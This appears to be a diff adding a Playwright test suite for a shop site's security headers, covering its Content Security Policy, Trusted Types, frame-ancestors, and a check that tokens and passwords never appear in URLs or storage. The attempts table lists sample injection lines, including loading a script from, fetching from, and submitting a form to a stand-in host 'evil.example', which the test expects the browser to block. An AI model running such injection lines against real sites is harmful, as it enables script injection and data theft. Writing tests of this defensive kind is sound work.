@@ -1,0 +1,116 @@
+import { openAccount } from './support/people'
+import { expect, test } from './support/test'
+import { watch } from './support/watch'
+
+// The headers of production are those of every browser test; here is what they refuse.
+
+/** What a text that has got into the page as markup or script would try, and what refuses it. */
+const ATTEMPTS: Record<string, { attempt: string; refusedBy: string }> = {
+  'markup from a text': {
+    attempt: `document.body.innerHTML = '<b>in</b>'`,
+    refusedBy: 'require-trusted-types-for',
+  },
+  'a script from elsewhere': {
+    attempt: `document.createElement('script').src = 'https://evil.example/a.js'`,
+    refusedBy: 'require-trusted-types-for',
+  },
+  'a policy that lets texts through': {
+    attempt: `trustedTypes.createPolicy('any', { createHTML: (text) => text })`,
+    refusedBy: 'trusted-types',
+  },
+  'a text run as a script': { attempt: `setTimeout(() => eval('1'))`, refusedBy: 'script-src' },
+  'a style in an attribute': {
+    attempt: `document.body.setAttribute('style', 'display: none')`,
+    refusedBy: 'style-src-attr',
+  },
+  'a style from a text': {
+    attempt: `document.head.append(Object.assign(document.createElement('style'), { textContent: 'a{}' }))`,
+    refusedBy: 'style-src-elem',
+  },
+  'a call to a stranger': {
+    attempt: `fetch('https://evil.example/').catch(() => {})`,
+    refusedBy: 'connect-src',
+  },
+  'a form to a stranger': {
+    attempt: `const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' })
+      document.body.append(form); form.submit()`,
+    refusedBy: 'form-action',
+  },
+  'another base for all links': {
+    attempt: `document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))`,
+    refusedBy: 'base-uri',
+  },
+  'a frame': {
+    attempt: `document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))`,
+    refusedBy: 'frame-src',
+  },
+}
+
+test.describe('under the policy', () => {
+  test.use({
+    expectedComplaints: /Content Security Policy|requires 'Trusted|^thrown: EvalError|evil\.example/,
+  })
+
+  test('whatever a stranger would try in the page is refused', async ({ page }) => {
+    await page.goto('/nowhere')
+    await expect(page.getByRole('heading', { name: 'Page not found' })).toBeVisible()
+    for (const [what, { attempt, refusedBy }] of Object.entries(ATTEMPTS)) {
+      await test.step(what, async () => {
+        const refused = page.evaluate(
+          () =>
+            new Promise((resolve) => {
+              const note = ({ effectiveDirective }: SecurityPolicyViolationEvent) =>
+                resolve(effectiveDirective)
+              document.addEventListener('securitypolicyviolation', note, { once: true })
+            }),
+        )
+        // Some are refused with an error, some without a word.
+        await page.evaluate(attempt).catch(String)
+        expect(await refused).toBe(refusedBy)
+      })
+    }
+  })
+
+  test('a browser test fails where something is refused', async ({ page, context, baseURL }) => {
+    const watched = watch(context, baseURL ?? '', undefined)
+    await page.goto('/nowhere')
+    await page.evaluate(() => document.body.setAttribute('style', 'display: none'))
+    await expect
+      .poll(() => watched.complaints)
+      .toEqual([expect.stringMatching(/^console error: .*Content Security Policy/)])
+  })
+})
+
+test('another site cannot put the shop into a frame', async ({ request }) => {
+  const headers = (await request.get('/vehicles')).headers()
+  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'")
+  expect(headers['cross-origin-resource-policy']).toBe('same-origin')
+})
+
+test('nothing about a person stands in an address or stays in the storage of the browser', async ({
+  page,
+  context,
+}) => {
+  const { fullName, email, password } = await openAccount(context)
+  const addresses: string[] = []
+  page.on('request', (request) => addresses.push(request.url()))
+  await page.goto('/auth')
+  await page.getByRole('textbox', { name: 'E-mail' }).fill(email)
+  await page.getByRole('textbox', { name: 'Password' }).fill(password)
+  await page.getByRole('main').getByRole('button', { name: 'Sign in', exact: true }).click()
+  await expect(page.getByText(`Welcome, ${fullName}`)).toBeVisible()
+  const token = (await context.cookies()).find(({ name }) => name === 'authToken')?.value ?? ''
+  expect(token).not.toBe('')
+  const secrets = [token, password, email, encodeURIComponent(email)]
+  const isTold = (text: string) => secrets.some((secret) => text.includes(secret))
+
+  const stored = await page.evaluate(() => JSON.stringify([localStorage, sessionStorage]))
+  expect(isTold(stored), stored).toBe(false)
+  expect(addresses.length).toBeGreaterThan(10)
+  expect([...addresses, page.url()].filter(isTold)).toEqual([])
+
+  await page.getByRole('button', { name: 'Sign out' }).click()
+  await expect(page.getByRole('heading', { name: 'Welcome back' })).toBeVisible()
+  await expect(page.getByText(fullName)).toHaveCount(0)
+  expect(await context.cookies()).toEqual([])
+})
